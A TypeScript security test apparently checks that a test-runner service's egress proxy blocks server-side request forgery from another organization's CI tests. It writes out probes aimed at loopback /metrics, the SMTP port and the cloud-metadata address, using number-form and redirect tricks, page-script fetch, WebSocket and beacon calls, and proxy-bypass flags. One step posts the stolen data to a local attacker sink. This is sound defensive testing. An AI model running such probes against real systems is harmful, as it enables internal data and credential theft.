import http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type DatabaseKind, databaseKinds, freePort, type TestApp } from '../../helper.ts';
import { attackerCiKey, multipart, waitForStatus } from './helpers.ts';

/**
 * Reproduced as an attacker would do it: a CI key of a second organization writes tests
 * that read the service's own `/metrics` on loopback (and post it to the test's site), knock on
 * its SMTP port and on the cloud-metadata address, through every door a run has: `goto`, a
 * `request` step, a redirect from an allowed site, the page's own script (fetch and
 * WebSocket), host names and number forms that mean 127.0.0.1. The runner's egress proxy
 * refuses them all, each failing its step with the rule that refused it; an allowed loopback
 * site still works, an allow rule re-permits, a deny rule blocks. The same probes with the
 * rules switched off (`RUNNER_EGRESS_ALLOW=0.0.0.0/0,::/0`) reach their targets: without the
 * proxy the attack works.
 */

interface AttackSite {
  url: string;
  /** Bodies posted to `/collect` (the attacker's sink). */
  collected: string[];
  close(): Promise<void>;
}

async function startAttackSite(servicePort: number, host = '127.0.0.1'): Promise<AttackSite> {
  const collected: string[] = [];
  const service = `127.0.0.1:${servicePort}`;
  const server = http.createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      if (request.url === '/collect') {
        collected.push(body);
        response.end('{}');
        return;
      }
      if (request.url === '/redirect-metrics') {
        response.writeHead(302, { location: `http://${service}/metrics` }).end();
        return;
      }
      response.setHeader('content-type', 'text/html');
      if (request.url === '/probe') {
        // The page's own script: a fetch and a WebSocket to the service, then "done".
        response.end(`<!doctype html><title>Probe</title><p id="status">probing</p><script>
const ws = new Promise((resolve) => {
  const socket = new WebSocket('ws://${service}/metrics?from=ws');
  socket.onopen = socket.onerror = socket.onclose = () => resolve();
});
const fetched = fetch('http://${service}/metrics?from=page', { mode: 'no-cors' }).catch(() => {});
Promise.allSettled([ws, fetched]).then(() => { document.getElementById('status').textContent = 'done'; });
</script>`);
        return;
      }
      response.end('<!doctype html><title>Staging app</title><h1>staging</h1>');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    url: `http://${host}:${(server.address() as AddressInfo).port}`,
    collected,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

interface Attack {
  t: TestApp;
  site: AttackSite;
  /** A site on 127.0.0.2, which `RUNNER_EGRESS_DENY` denies. */
  internal: AttackSite;
  httpPort: number;
  smtpPort: number;
  /** What reached the service's HTTP listener from outside (URLs, and WebSocket upgrades). */
  hits: string[];
  attacker: { 'x-api-key': string; 'x-project-id': string };
  close(): Promise<void>;
}

async function startAttack(database: DatabaseKind, rules: Record<string, string>): Promise<Attack> {
  const httpPort = await freePort();
  const smtpPort = await freePort();
  const t = await createTestApp({
    database,
    background: true,
    env: {
      PORT: String(httpPort),
      SMTP_PORT: String(smtpPort),
      RATE_LIMIT_PER_MINUTE: '100000',
      ...rules,
    },
  });
  await t.app.listen({ port: httpPort, host: '127.0.0.1' });
  const hits: string[] = [];
  t.app.server.on('request', (request: http.IncomingMessage) => hits.push(request.url ?? ''));
  t.app.server.on('upgrade', (request: http.IncomingMessage, socket: Socket) => {
    hits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  const site = await startAttackSite(httpPort);
  const internal = await startAttackSite(httpPort, '127.0.0.2');
  const attacker = await attackerCiKey(t);
  return {
    t,
    site,
    internal,
    httpPort,
    smtpPort,
    hits,
    attacker,
    async close() {
      await site.close();
      await internal.close();
      await t.close();
    },
  };
}

type Step = { name: string; action: Record<string, unknown>; condition?: unknown };
type Probe = { name: string; type: 'ui' | 'api'; steps: Step[] };

/** One probe per step, each run whatever the steps before it did. */
const always = (name: string, action: Record<string, unknown>): Step => ({
  name,
  action,
  condition: { type: 'alwaysRun' },
});
const goto = (name: string, url: string) => always(name, { name: 'goto', url });
const request = (name: string, url: string) => always(name, { name: 'request', method: 'GET', url });

/**
 * The probes: a few tests of many steps (a test costs a browser context; a step, a navigation).
 * A result is looked up by step name, or by test name for the one-probe tests. The same tests
 * run with the rules on and off.
 */
function probes(a: Attack): Probe[] {
  const metrics = (host: string) => `http://${host}:${a.httpPort}/metrics`;
  return [
    {
      name: 'goto probes',
      type: 'ui',
      steps: [
        goto('goto metrics', metrics('127.0.0.1')),
        goto('goto metrics by localhost', metrics('localhost')),
        goto('goto metrics by decimal', metrics('2130706433')),
        goto('goto metrics by hex', metrics('0x7f000001')),
        goto('goto metrics over [::1]', metrics('[::1]')),
        goto('goto metrics by redirect', `${a.site.url}/redirect-metrics`),
        goto('goto smtp', `http://127.0.0.1:${a.smtpPort}/`),
        goto('goto cloud metadata', 'http://169.254.169.254/latest/meta-data/'),
        goto('goto internal', `${a.internal.url}/`),
      ],
    },
    // Alone: a refused tunnel leaves Chromium's error page, which a next navigation may race.
    {
      name: 'goto metrics over https',
      type: 'ui',
      steps: [goto('open', `https://127.0.0.1:${a.httpPort}/metrics`)],
    },
    {
      name: 'page script',
      type: 'ui',
      steps: [
        goto('open', `${a.site.url}/probe`),
        { name: 'wait for the probes', action: { name: 'assertText', selector: '#status', value: 'done' } },
      ],
    },
    // The page-script steps run the test's own code in the page: the same walls as the page's.
    {
      name: 'page-script steps',
      type: 'ui',
      steps: [
        goto('open for scripts', `${a.site.url}/`),
        always('evaluate fetch', {
          name: 'evaluate',
          script: `fetch('${metrics('127.0.0.1')}?from=evaluate', { mode: 'no-cors' }).then((r) => r.type)`,
          variable: 'stolen',
        }),
        always('evaluate websocket', {
          name: 'evaluate',
          script: `new Promise((resolve, reject) => { const s = new WebSocket('ws://127.0.0.1:${a.httpPort}/metrics?from=evaluate-ws'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('websocket refused')); })`,
        }),
        always('assertScript fetch', {
          name: 'assertScript',
          script: `fetch('${metrics('localhost')}?from=assertScript', { mode: 'no-cors' }).then((r) => r.type)`,
          timeout: 3_000,
        }),
        always('dispatchEvent beacon', {
          name: 'evaluate',
          script: `document.body.addEventListener('probe', () => navigator.sendBeacon('${metrics('127.0.0.1')}?from=beacon', 'x')); return 'armed';`,
        }),
        always('dispatch probe', { name: 'dispatchEvent', selector: 'body', event: 'probe' }),
      ],
    },
    {
      name: 'allowed',
      type: 'ui',
      steps: [
        goto('goto allowed site', `${a.site.url}/`),
        always('allowed title', { name: 'assertTitle', value: 'Staging app' }),
        goto('goto allow-listed name', metrics('allowed.localhost')),
        always('read metrics', {
          name: 'assertText',
          selector: 'body',
          value: 'stepdeck_http_requests_total',
        }),
      ],
    },
    // The attack as found: read /metrics (into vars.m), post it to the test's site.
    {
      name: 'request metrics and post them',
      type: 'api',
      steps: [
        {
          name: 'call',
          action: { name: 'request', method: 'GET', url: metrics('127.0.0.1'), variable: 'm' },
        },
        {
          name: 'post',
          action: {
            name: 'request',
            method: 'POST',
            url: `${a.site.url}/collect`,
            body: { stolen: '{{vars.m.text}}' },
          },
        },
      ],
    },
    {
      name: 'request probes',
      type: 'api',
      steps: [
        request('request metrics over [::1]', metrics('[::1]')),
        request('request metrics over 0.0.0.0', metrics('0.0.0.0')),
        request('request metrics by redirect', `${a.site.url}/redirect-metrics`),
        request('request smtp', `http://localhost:${a.smtpPort}/`),
        request('request cloud metadata', 'http://169.254.169.254/latest/meta-data/'),
        request('request allowed site', `${a.site.url}/`),
        always('allowed status', { name: 'assertStatus', value: 200 }),
      ],
    },
  ];
}

interface Result {
  status: string;
  errorMessage: string | null;
}

/**
 * Saves the probes as the attacker, runs them (as one directory) and returns each test's and
 * each step's result, by name.
 */
async function runProbes(a: Attack, config: Record<string, unknown> = {}): Promise<Map<string, Result>> {
  const save = async (testData: Record<string, unknown>) => {
    const form = await multipart({ testData: JSON.stringify({ status: 'active', ...testData }) });
    const response = await a.t.app.inject({
      method: 'POST',
      url: '/v1/tests',
      payload: form.payload,
      headers: { ...form.headers, ...a.attacker },
    });
    expect(response.statusCode, response.body).toBe(200);
    return response.json().data.id as string;
  };
  const directory = await save({ name: 'egress probes', directory: true });
  for (const probe of probes(a))
    await save({
      name: probe.name,
      parentTestId: directory,
      metadata: { type: probe.type },
      steps: probe.steps,
    });
  const started = await a.t.app.inject({
    method: 'POST',
    url: `/v1/tests/${directory}/remote-run`,
    headers: a.attacker,
    payload: {
      config: { timeout: 90_000, use: { navigationTimeout: 5_000, actionTimeout: 5_000 }, ...config },
    },
  });
  expect(started.statusCode, started.body).toBe(200);
  const runId = started.json().data.runId as string;
  const api = (inject: Parameters<TestApp['api']>[0]) => a.t.app.inject({ ...inject, headers: a.attacker });
  const run = await waitForStatus({ ...a.t, api }, runId, ['completed', 'failed'], 240_000);
  const tests = (
    run.report as {
      runTypeInfo: {
        testResults: Array<
          Result & { name: string; steps?: Array<{ name: string; status: string; error: string | null }> }
        >;
      };
    }
  ).runTypeInfo.testResults;
  const results = new Map<string, Result>();
  for (const test of tests) {
    results.set(test.name, { status: test.status, errorMessage: test.errorMessage });
    for (const step of test.steps ?? [])
      results.set(step.name, { status: step.status, errorMessage: step.error });
  }
  return results;
}

const refusal = "blocked by the runner's egress rules: ";

describe.each(databaseKinds)(
  'a run cannot reach the service’s own listeners nor metadata addresses (%s)',
  (database) => {
    let a: Attack;
    let results: Map<string, Result>;
    beforeAll(async () => {
      a = await startAttack(database, {
        RUNNER_EGRESS_DENY: '127.0.0.2/32',
        RUNNER_EGRESS_ALLOW: 'allowed.localhost',
      });
      // A run config that tries to switch the proxy off: its `use` and launch options are not the run's to set.
      results = await runProbes(a, {
        use: {
          navigationTimeout: 5_000,
          actionTimeout: 5_000,
          proxy: { server: 'direct://' },
          launchOptions: { proxy: { server: 'direct://' }, args: ['--no-proxy-server'] },
        },
        launchOptions: { proxy: { server: 'direct://' } },
      });
    }, 300_000);
    afterAll(async () => {
      await a?.close();
    });

    const failsWith = (name: string, ...parts: string[]) => {
      const result = results.get(name);
      expect(result?.status, name).toBe('failed');
      for (const part of parts) expect(result?.errorMessage, name).toContain(part);
    };
    const own = (port: number, kind: string) =>
      `port ${port} is the Stepdeck service's own ${kind} port on this host (denied by default; RUNNER_EGRESS_ALLOW can permit it)`;

    it('refuses the service’s HTTP port through goto, whatever the name or number form, naming the rule', () => {
      const port = a.httpPort;
      failsWith('goto metrics', `${refusal}127.0.0.1 ${own(port, 'HTTP')}`);
      failsWith('goto metrics by localhost', `${refusal}localhost (127.0.0.1) ${own(port, 'HTTP')}`);
      failsWith('goto metrics by decimal', `${refusal}127.0.0.1 ${own(port, 'HTTP')}`);
      failsWith('goto metrics by hex', `${refusal}127.0.0.1 ${own(port, 'HTTP')}`);
      failsWith('goto metrics over [::1]', `${refusal}::1 ${own(port, 'HTTP')}`);
      failsWith(
        'goto metrics over https',
        `goto https://127.0.0.1:${port}/metrics: ${refusal}127.0.0.1 ${own(port, 'HTTP')}`,
      );
      failsWith(
        'goto metrics by redirect',
        `goto ${a.site.url}/redirect-metrics: redirected to http://127.0.0.1:${port}/metrics, ${refusal}127.0.0.1 ${own(port, 'HTTP')}`,
      );
      failsWith('goto smtp', `${refusal}127.0.0.1 ${own(a.smtpPort, 'SMTP')}`);
    });

    it('refuses the cloud-metadata address and what RUNNER_EGRESS_DENY denies', () => {
      failsWith(
        'goto cloud metadata',
        `${refusal}169.254.169.254 is in 169.254.0.0/16 (link-local and cloud metadata, denied by default; RUNNER_EGRESS_ALLOW can permit it)`,
      );
      failsWith('request cloud metadata', `${refusal}169.254.169.254 is in 169.254.0.0/16`);
      failsWith('goto internal', `${refusal}127.0.0.2 matches 127.0.0.2 (RUNNER_EGRESS_DENY)`);
    });

    it('refuses request steps, so nothing is posted to the attacker’s site', () => {
      const port = a.httpPort;
      failsWith(
        'request metrics and post them',
        `request http://127.0.0.1:${port}/metrics: ${refusal}127.0.0.1 ${own(port, 'HTTP')}`,
      );
      failsWith('request metrics over [::1]', `${refusal}::1 ${own(port, 'HTTP')}`);
      failsWith('request metrics over 0.0.0.0', `${refusal}0.0.0.0 ${own(port, 'HTTP')}`);
      failsWith('request metrics by redirect', `${refusal}127.0.0.1 ${own(port, 'HTTP')}`);
      failsWith('request smtp', `${refusal}localhost (127.0.0.1) ${own(a.smtpPort, 'SMTP')}`);
      expect(a.site.collected).toEqual([]);
    });

    it('lets the page’s own script reach nothing of the service (fetch, WebSocket)', () => {
      expect(results.get('page script')?.status).toBe('passed');
      expect(a.hits.filter((hit) => hit.includes('from='))).toEqual([]);
    });

    it('lets the page-script steps (evaluate, assertScript, dispatchEvent) reach nothing of the service', () => {
      // What the scripts see depends on how the refusal comes back (an opaque 403 to a no-cors
      // fetch, a network error): what counts is that nothing arrived.
      expect(results.get('dispatch probe')?.status).toBe('passed');
      expect(a.hits.filter((hit) => /from=(evaluate|assertScript|beacon)/.test(hit))).toEqual([]);
    });

    it('still reaches an allowed loopback site, and what an allow rule re-permits', () => {
      for (const name of ['goto allowed site', 'allowed title', 'request allowed site', 'allowed status'])
        expect(results.get(name), name).toMatchObject({ status: 'passed', errorMessage: null });
      // `allowed.localhost` (RUNNER_EGRESS_ALLOW) re-permits the service's own port, by that name only.
      for (const name of ['goto allow-listed name', 'read metrics'])
        expect(results.get(name), name).toMatchObject({ status: 'passed', errorMessage: null });
      expect(a.hits).toEqual(['/metrics']);
    });
  },
);

describe('the same probes with the egress rules switched off reach their targets', () => {
  let a: Attack;
  let results: Map<string, Result>;
  beforeAll(async () => {
    a = await startAttack('sqlite', { RUNNER_EGRESS_ALLOW: '0.0.0.0/0,::/0' });
    results = await runProbes(a);
  }, 300_000);
  afterAll(async () => {
    await a?.close();
  });

  it('reads /metrics and posts it to the attacker’s site; the page’s script reaches the service', () => {
    for (const name of [
      'goto metrics',
      'goto metrics by localhost',
      'goto metrics by decimal',
      'goto metrics by hex',
      'goto metrics by redirect',
      'goto internal',
      'request metrics and post them',
      'request metrics over 0.0.0.0',
      'request metrics by redirect',
      'page script',
    ])
      expect(results.get(name), name).toMatchObject({ status: 'passed', errorMessage: null });
    expect(a.site.collected).toHaveLength(1);
    expect(a.site.collected[0]).toContain('stepdeck_http_requests_total');
    expect(a.hits).toContain('/metrics?from=page');
    // The page-script steps' requests arrive (the service's CORP header then hides the answers from the page).
    expect(a.hits).toContain('/metrics?from=evaluate');
    expect(a.hits).toContain('upgrade /metrics?from=evaluate-ws');
    expect(a.hits).toContain('/metrics?from=beacon');
    expect(a.hits.some((hit) => hit.startsWith('/metrics?from=assertScript'))).toBe(true);
    expect(a.hits).toContain('upgrade /metrics?from=ws');
    // The SMTP listener and the metadata address were reached or tried: no rule stopped them.
    for (const name of ['goto smtp', 'request smtp', 'goto cloud metadata', 'request cloud metadata'])
      expect(results.get(name)?.errorMessage ?? '', name).not.toContain('egress rules');
  });
});
